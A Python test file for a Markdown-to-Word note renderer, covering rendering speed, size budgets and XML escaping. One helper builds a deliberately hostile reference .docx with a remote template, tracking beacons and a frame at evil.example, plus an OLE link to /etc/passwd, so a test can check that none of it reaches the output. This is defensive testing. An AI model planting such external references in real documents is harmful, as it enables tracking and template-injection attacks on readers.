"""Word output linear in the note, bounded like the PDF: a 400-row table took 116 s (python-docx's
``table.cell`` walks the whole table each time), 40,000 list items 69 s (every paragraph looked its
style up among all styles and searched the body for its end), and a 20 MB note ran past 420 s.
Times belong to ``make bench-sizes``; these tests hold what made them grow."""

from __future__ import annotations

from helpers import output_text


def _table(rows: int) -> str:
    lines = ["| talk | room | minutes | share |", "|---|---|--:|--:|"]
    lines += [f"| Talk {n} on caches | Hall {n % 4} | {n % 60} | 0.{n:03d} |" for n in range(rows)]
    return "# Tables\n\n## Numbers\n\n" + "\n".join(lines) + "\n"


def test_a_table_is_written_row_by_row_never_cell_by_cell(cli, tmp_path, monkeypatch):
    """``table.cell(r, c)`` builds the list of every cell of the table at each call."""
    import docx.table

    walks = []
    whole = docx.table.Table._cells.fget  # type: ignore[attr-defined]
    monkeypatch.setattr(docx.table.Table, "_cells", property(lambda self: walks.append(1) or whole(self)))
    note = tmp_path / "t.md"
    note.write_text(_table(400), encoding="utf-8")
    result = cli("render", str(note), "--to", "docx", "-o", str(tmp_path / "t.docx"))
    assert result.exit_code == 0, result.stderr
    assert walks == []
    text = output_text(tmp_path / "t.docx", "docx")
    assert "Talk 399 on caches" in text and "0.399" in text


def test_paragraphs_look_their_style_up_once(cli, tmp_path, monkeypatch):
    """Each paragraph looked its style up among all styles (0.8 ms) and searched the body for its
    section settings (growing with the document)."""
    import docx.styles.styles

    lookups = []
    by_name = docx.styles.styles.Styles.__getitem__
    monkeypatch.setattr(docx.styles.styles.Styles, "__getitem__", lambda self, key: lookups.append(key) or by_name(self, key))
    note = tmp_path / "l.md"
    note.write_text("# Lists\n\n## One\n\n" + "\n".join(f"- point {n}\n  - sub {n}" for n in range(2000)) + "\n", encoding="utf-8")
    result = cli("render", str(note), "--to", "docx", "-o", str(tmp_path / "l.docx"))
    assert result.exit_code == 0, result.stderr
    assert len(lookups) < 30  # a few styles, each once; it was 4,000 and more
    import docx

    word = docx.Document(str(tmp_path / "l.docx"))
    styles = [p.style.name for p in word.paragraphs]
    assert styles.count("List Bullet") == 2000 and styles.count("List Bullet 2") == 2000
    assert word.element.body[-1].tag.endswith("}sectPr")  # the section settings stay last


def test_a_table_past_the_cell_budget_is_its_text_with_a_warning(cli, tmp_path):
    note = tmp_path / "t.md"
    note.write_text(_table(6000), encoding="utf-8")
    result = cli("render", str(note), "--to", "docx", "-o", str(tmp_path / "t.docx"))
    assert result.exit_code == 0
    assert "table of 24,004 cells (line 5) shown as its text: a document lays out at most 20,000 cells a table" in result.stderr
    assert "| Talk 5999 on caches | Hall 3 |" in output_text(tmp_path / "t.docx", "docx")


def test_a_word_document_holds_its_budget_and_names_what_it_left_out(cli, tmp_path, monkeypatch):
    from dataclasses import replace

    from confnotes.render import printed

    monkeypatch.setattr(printed, "WORD", replace(printed.WORD, parts=40))
    note = tmp_path / "long.md"
    note.write_text(
        "# Long\n\n" + "".join(f"## Part {n}\n\n- point {n}.1 about caches\n- point {n}.2\n\n" for n in range(30)), encoding="utf-8"
    )
    result = cli("render", str(note), "--to", "docx", "-o", str(tmp_path / "long.docx"))
    assert result.exit_code == 0
    assert "Word document cut:" in result.stderr and "more words left out (at most 40 sections, items and blocks," in result.stderr
    text = " ".join(output_text(tmp_path / "long.docx", "docx").split())
    assert "is left out: a Word document holds at most 40 sections" in text and "point 29.2" not in text


def _hostile_reference(path) -> None:
    """A reference document as an attacker makes one: an attached remote template in its settings,
    a linked (not embedded) picture and an OLE object naming a local file in its body, a header
    whose picture is fetched from a server, and a frame relationship."""
    import docx
    from docx.oxml import parse_xml

    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    word = docx.Document()
    word.styles["Normal"].font.name = "Georgia"  # what a reference is for: its styles
    settings = word.part._settings_part
    template = settings.rels.get_or_add_ext_rel(rel + "attachedTemplate", "http://evil.example/t.dotm")
    settings.element.append(parse_xml(f'<w:attachedTemplate xmlns:w="{_W}" xmlns:r="{_R}" r:id="{template}"/>'))
    body_part = word.part
    linked = body_part.rels.get_or_add_ext_rel(rel + "image", "http://evil.example/track.png")
    ole = body_part.rels.get_or_add_ext_rel(rel + "oleObject", "file:///etc/passwd")
    body_part.rels.get_or_add_ext_rel(rel + "frame", "http://evil.example/frame.html")
    word.add_paragraph("the reference's own text")
    drawing = f'<w:drawing><a:blip xmlns:a="{_A}" r:link="{linked}"/></w:drawing>'
    ole_run = f'<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="{ole}"/></w:object>'
    word.element.body.insert(0, parse_xml(f'<w:p xmlns:w="{_W}" xmlns:r="{_R}"><w:r>{ole_run}</w:r><w:r>{drawing}</w:r></w:p>'))
    header = word.sections[0].header
    header.paragraphs[0].text = "Conference header"
    beacon = header.part.rels.get_or_add_ext_rel(rel + "image", "http://evil.example/beacon.png")
    header.paragraphs[0]._p.append(
        parse_xml(f'<w:r xmlns:w="{_W}" xmlns:r="{_R}"><w:drawing><a:blip xmlns:a="{_A}" r:link="{beacon}"/></w:drawing></w:r>')
    )
    word.save(str(path))


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"


def test_a_hostile_reference_document_gives_its_styles_and_nothing_external(cli, tmp_path):
    import re
    import zipfile

    reference = tmp_path / "reference.docx"
    _hostile_reference(reference)
    assert b'TargetMode="External"' in b"".join(zipfile.ZipFile(reference).read(n) for n in zipfile.ZipFile(reference).namelist())
    note = tmp_path / "talk.md"
    note.write_text("# Talk\n\n## Part\n\n- a point\n", encoding="utf-8")
    out = tmp_path / "talk.docx"
    result = cli("render", str(note), "--to", "docx", "--reference-docx", str(reference), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as made:
        everything = b"".join(made.read(name) for name in made.namelist())
        rels = b"".join(made.read(name) for name in made.namelist() if name.endswith(".rels"))
    assert b"External" not in rels and b"evil.example" not in everything and b"/etc/passwd" not in everything
    assert b"attachedTemplate" not in everything and not re.search(rb"r:(link|id)=\"rId\d+\"[^>]*/>\s*</w:drawing>", everything)
    import docx

    word = docx.Document(str(out))
    assert word.styles["Normal"].font.name == "Georgia" and "Conference header" in word.sections[0].header.paragraphs[0].text
    assert "the reference's own text" not in output_text(out, "docx") and "a point" in output_text(out, "docx")


def test_every_xml_writer_holds_a_control_character(cli, tmp_path, processes):
    """A vertical tab or form feed in a title made the feed and sitemap unreadable XML; each XML
    confnotes writes now goes through one cleaner (``escape.xml_text``/``xml_attr``)."""
    import xml.etree.ElementTree as ET

    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "talk\x0b.md").write_text(
        "---\ndate: 2027-06-09\n---\n\n# Caching\x0b at \x0cscale\x01\n\n## Part\n\n- a point\x1b[31m\n", encoding="utf-8"
    )
    site = tmp_path / "site"
    built = cli("build", str(notes), "-o", str(site), "--to", "html", "--base-url", "https://notes.example.org/")
    assert built.exit_code == 0, built.stderr
    for name in ("feed.xml", "sitemap.xml"):
        ET.fromstring((site / name).read_bytes())  # well-formed
    assert "Caching at scale\ufffd" in (site / "feed.xml").read_text(encoding="utf-8")  # \x01 shown; \x0b, \x0c spaces
    junit = cli("lint", "--format", "junit", str(notes))
    ET.fromstring(junit.stdout.encode("utf-8"))
    opml = cli("outline", "--format", "opml", str(notes / "talk\x0b.md"))
    assert opml.exit_code == 0
    ET.fromstring(opml.stdout.encode("utf-8"))
